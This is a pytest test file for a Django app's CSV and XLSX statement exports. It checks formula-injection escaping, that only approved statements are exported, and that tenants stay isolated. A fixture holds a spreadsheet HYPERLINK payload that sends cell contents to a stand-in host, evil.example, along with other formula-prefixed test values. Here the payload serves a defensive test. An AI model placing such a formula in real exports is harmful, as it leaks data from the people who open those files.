"""Bank exports of approved statements (issue 5): CSV and XLSX, safe against formula injection."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from apps.commissions.exports import safe_cell, statements_csv, statements_xlsx
from apps.commissions.models import Statement
from apps.commissions.services.statements import (
    statement_approve,
    statement_submit,
    statements_generate,
)
from apps.tenants.scope import tenant_scope
from tests.affiliates.factories import AffiliateFactory
from tests.commissions.statement_helpers import earning
from tests.conftest import client_for, make_staff

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def approved(tenant):
    webmaster = AffiliateFactory(
        tenant=tenant,
        name=EVIL,
        payout_details={
            "account_holder": "@SUM(1+1)",
            "account_number": "-6222021234",
            "bank": "+Bank\tof Tests",
        },
    )
    earning(webmaster, datetime.date(2026, 3, 1), "300.00", "200.00")
    plain = AffiliateFactory(tenant=tenant, name="Plain Deals", payout_details=True)
    earning(plain, datetime.date(2026, 3, 1), "150.00")
    submitter, approver = make_staff(tenant, "finance"), make_staff(tenant, "finance")
    with tenant_scope(tenant):
        statements_generate(period="2026-03")
        for statement in Statement.objects.all():
            statement_submit(statement=statement, actor=submitter)
        evil = Statement.objects.get(affiliate=webmaster)
        statement_approve(statement=evil, actor=approver)
        return list(Statement.objects.select_related("affiliate").order_by("pk"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Sunrise", "Sunrise"),
        (Decimal("-1.00"), Decimal("-1.00")),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_escapes_formulas_and_lists_only_approved(tenant, approved):
    body = statements_csv(approved, currency="CNY")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:3] == ["webmaster", "email", "payout_method"]
    assert len(rows) == 2  # the submitted (not approved) statement is left out
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["webmaster"] == "'" + EVIL
    assert row["account_name"] == "'@SUM(1+1)"
    assert row["account_number"] == "'-6222021234"
    assert row["bank"] == "'+Bank\tof Tests"
    assert (row["period"], row["total"], row["currency"]) == ("2026-03", "500.00", "CNY")
    assert row["reference"].startswith("ST-202603-")


def test_xlsx_opens_with_text_cells_and_numeric_totals(tenant, approved):
    body = statements_xlsx(approved, currency="CNY")
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    header, row = rows
    values = dict(zip(header, row, strict=True))
    assert values["webmaster"] == "'" + EVIL
    assert values["total"] == 500
    assert sheet.cell(row=2, column=1).data_type == "s"  # text, never a formula


def test_admin_export_actions_download_files(tenant, approved):
    client = client_for(tenant, make_staff(tenant, "finance"))
    ids = [str(statement.pk) for statement in approved]
    url = "/admin/commissions/statement/"
    response = client.post(url, {"action": "export_csv", "_selected_action": ids})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert "attachment" in response["Content-Disposition"]
    assert response.content.decode("utf-8-sig").count("\n") == 2
    response = client.post(url, {"action": "export_xlsx", "_selected_action": ids})
    assert response.status_code == 200
    assert openpyxl.load_workbook(io.BytesIO(response.content)).active.max_row == 2


def test_admin_export_of_other_tenant_ids_exports_nothing(tenant, other_tenant, approved):
    client = client_for(other_tenant, make_staff(other_tenant, "finance"))
    ids = [str(statement.pk) for statement in approved]
    response = client.post(
        "/admin/commissions/statement/", {"action": "export_csv", "_selected_action": ids}
    )
    assert response.get("Content-Type") != "text/csv"
